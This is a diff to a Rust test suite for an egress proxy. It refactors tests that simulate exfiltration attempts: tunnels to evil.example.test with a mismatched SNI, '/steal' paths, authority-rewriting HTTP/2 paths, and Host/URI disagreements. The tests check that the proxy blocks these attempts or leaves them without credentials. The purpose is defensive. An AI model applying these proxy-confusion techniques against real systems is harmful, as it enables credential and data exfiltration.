@@ -64,18 +64,12 @@ async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
     let app = spawn_app().await;
     let token = setup(&app, "exfil-connect").await;
     let auth = basic(&token, "exfil-connect");
-    let tcp = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
-        .await
-        .unwrap();
     // The splice reaches the upstream as is: its own certificate, no interception.
-    let tls = agent::tls(tcp, Some("api.example.test"), None, &[b"http/1.1"])
-        .await
-        .unwrap();
-    let req = Request::get("/steal")
-        .header("host", "api.example.test")
-        .body(Full::new(Bytes::new()))
-        .unwrap();
-    assert_eq!(agent::send(tls, req).await.unwrap().status(), 200);
+    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
+        .sni("api.example.test")
+        .get("/steal", "api.example.test")
+        .await;
+    assert_eq!(resp.status(), 200);
     let seen = app.upstream.last();
     assert_eq!(seen.path_and_query, "/steal");
     assert_eq!(seen.header("authorization"), None, "nothing attached");
@@ -105,11 +99,10 @@ async fn exfil_absolute_form_and_host_disagreeing_are_misdirected() {
         ("https://evil.example.test/x", "api.example.test"),
         ("https://api.example.test/x", "api.example.test:8443"),
     ] {
-        let stream = tokio::net::TcpStream::connect(app.proxy).await.unwrap();
         let raw = format!(
             "GET {uri} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
         );
-        let out = agent::raw_exchange(stream, raw.as_bytes()).await;
+        let out = agent::plain(app.proxy, raw.as_bytes()).await;
         assert_eq!(status(&out), 421, "{uri} / {host}: {out}");
         assert!(
             out.contains("x-agent-vault-proxy-error: host_mismatch"),
@@ -140,13 +133,7 @@ async fn exfil_absolute_form_and_host_disagreeing_are_misdirected() {
     let tls = app
         .tunnel(&token, "exfil-host", "api.example.test", &[b"h2"])
         .await;
-    let (mut sender, conn) = hyper::client::conn::http2::handshake(
-        hyper_util::rt::TokioExecutor::new(),
-        hyper_util::rt::TokioIo::new(tls),
-    )
-    .await
-    .unwrap();
-    tokio::spawn(conn);
+    let mut sender = agent::http2(tls).await;
     let req = Request::get("https://evil.example.test/x")
         .body(Full::new(Bytes::new()))
         .unwrap();
@@ -192,24 +179,12 @@ async fn exfil_host_spellings_route_canonically() {
             "xn--bcher-kva.example.test",
         ),
     ] {
-        let tcp = agent::connect(app.proxy, connect, Some(&auth))
-            .await
-            .unwrap_or_else(|e| panic!("{connect}: {e:?}"));
-        let tls = agent::tls(tcp, Some(canonical), Some(&ca), &[b"http/1.1"])
-            .await
-            .unwrap();
-        let req = Request::get("/spelled")
-            .header(
-                "host",
-                http::HeaderValue::from_bytes(host.as_bytes()).unwrap(),
-            )
-            .body(Full::new(Bytes::new()))
-            .unwrap();
-        assert_eq!(
-            agent::send(tls, req).await.unwrap().status(),
-            200,
-            "{connect} {host}"
-        );
+        let resp = agent::dial(app.proxy, &auth, connect)
+            .sni(canonical)
+            .trusting(&ca)
+            .get("/spelled", host)
+            .await;
+        assert_eq!(resp.status(), 200, "{connect} {host}");
         let seen = app.upstream.last();
         assert_eq!(seen.sni.as_deref(), Some(canonical), "{connect}");
         assert_eq!(
@@ -582,7 +557,6 @@ async fn exfil_h2_path_that_rewrites_the_authority() {
     )
     .await;
     let (token, _) = app.proxy_token("h2path").await;
-    let ca = app.ca_pem().await;
     for path in [
         "@evil.example.test/steal",
         ".evil.example.test/steal",
@@ -590,23 +564,10 @@ async fn exfil_h2_path_that_rewrites_the_authority() {
         "evil",
         "*",
     ] {
-        let tunnel = agent::connect(
-            app.proxy,
-            "api.example.test:443",
-            Some(&basic(&token, "h2path")),
-        )
-        .await
-        .unwrap();
-        let tls = agent::tls(tunnel, Some("api.example.test"), Some(&ca), &[b"h2"])
-            .await
-            .unwrap();
-        let (mut sender, conn) = hyper::client::conn::http2::handshake(
-            hyper_util::rt::TokioExecutor::new(),
-            hyper_util::rt::TokioIo::new(tls),
-        )
-        .await
-        .unwrap();
-        tokio::spawn(conn);
+        let tls = app
+            .tunnel(&token, "h2path", "api.example.test", &[b"h2"])
+            .await;
+        let mut sender = agent::http2(tls).await;
         let mut parts = http::uri::Parts::default();
         parts.scheme = Some(http::uri::Scheme::HTTPS);
         parts.authority = Some(http::uri::Authority::from_static("api.example.test"));
